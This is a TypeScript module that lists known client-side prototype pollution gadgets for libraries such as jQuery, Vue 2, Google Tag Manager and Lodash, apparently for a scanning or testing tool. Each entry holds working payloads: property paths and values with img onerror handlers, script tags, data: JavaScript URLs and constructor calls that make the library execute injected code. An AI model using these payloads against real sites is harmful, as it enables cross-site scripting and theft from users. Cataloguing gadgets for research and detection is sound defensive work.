/** A property of the prototype, as a path: `['template', 'innerHTML']`. An empty name appends to a list. */
export type PollutedProperty = readonly [path: readonly string[], value: string];

/** Properties that only together, or only in this form, make a widely used library run what they hold. */
export interface KnownGadget {
  readonly library: string;
  readonly properties: (code: string) => readonly PollutedProperty[];
}

const image = (call: string): string => `<img src=x onerror=${call}>`;
const scriptUrl = (call: string): string => `data:text/javascript,${call}//`;

/** As published at https://github.com/BlackFan/client-side-prototype-pollution. */
export const knownGadgets: readonly KnownGadget[] = [
  gadget('jQuery, elements of markup', (call) => [
    ['div.0', '1'],
    ['div.1', image(call)],
    ['div.2', '1'],
  ]),
  gadget('jQuery, handlers of events', (call) => [
    ['preventDefault', 'x'],
    ['handleObj', 'x'],
    ['delegateTarget', image(call)],
  ]),
  gadget('jQuery, requests', (call) => [
    ['url.', scriptUrl(call)],
    ['dataType', 'script'],
  ]),
  gadget('jQuery, scripts', (call) => [['src.', scriptUrl(call)]]),
  gadget('reCAPTCHA', (call) => [['srcdoc.', `<script>${call}</script>`]]),
  gadget('Google Tag Manager', (call) => [
    ['vtp_enableRecaptcha', '1'],
    ['srcdoc', `<script>${call}</script>`],
  ]),
  gadget('Akamai Boomerang', (call) => [
    ['BOOMR', '1'],
    ['url', scriptUrl(call)],
  ]),
  gadget('Segment', (call) => [
    ['script.0', '1'],
    ['script.1', image(call)],
    ['script.2', image(call)],
  ]),
  gadget('Tealium', (call) => [
    ['attrs.src', '1'],
    ['src', scriptUrl(call)],
  ]),
  gadget('Twitter', (call) => [['hif.', `javascript:${call}`]]),
  gadget('Marionette', (call) => [
    ['tagName', 'img'],
    ['src.', 'x:x'],
    ['onerror.', call],
  ]),
  gadget('Sprint', (call) => [['div.intro', image(call)]]),
  gadget('i18next, separator', (call) => [
    ['lng', 'cimode'],
    ['appendNamespaceToCIMode', 'x'],
    ['nsSeparator', image(call)],
  ]),
  gadget('i18next, language', (call) => [
    ['lng', 'a'],
    ['key', image(call)],
  ]),
  gadget('Closure Library', (call) => [
    ['trustedTypes', 'x'],
    ['emptyHTML', image(call)],
  ]),
  gadget('Popper', (call) =>
    ['arrow', 'reference', 'popper'].flatMap((part): (readonly [string, string])[] => [
      [`${part}.style`, 'color:red;transition:all 1s'],
      [`${part}.ontransitionend`, call],
    ]),
  ),
  gadget('Vue 2, conditions', (call) => [['v-if', `_c.constructor('${call}')()`]]),
  gadget('Vue 2, classes', (call) => [['v-bind:class', `''.constructor.constructor('${call}')()`]]),
  gadget('Vue 2, attributes', (call) => [
    ['attrs.0.name', 'src'],
    ['attrs.0.value', 'xxx'],
    ['xxx', scriptUrl(call)],
    ['is', 'script'],
  ]),
  gadget('Vue 2, templates', (call) => [
    ['data', 'a'],
    ['template.nodeType', 'a'],
    ['template.innerHTML', `<script>${call}</script>`],
  ]),
  gadget('Knockout', (call) => [
    ['4', `a':1,[${call}]:1,'b`],
    ['5', ','],
  ]),
  gadget('Lodash', (call) => [['sourceURL', `\u2028\u2029${call}`]]),
];

function gadget(
  library: string,
  properties: (call: string) => readonly (readonly [path: string, value: string])[],
): KnownGadget {
  return {
    library,
    properties: (code) => properties(`${code}(1)`).map(([path, value]) => [path.split('.'), value]),
  };
}
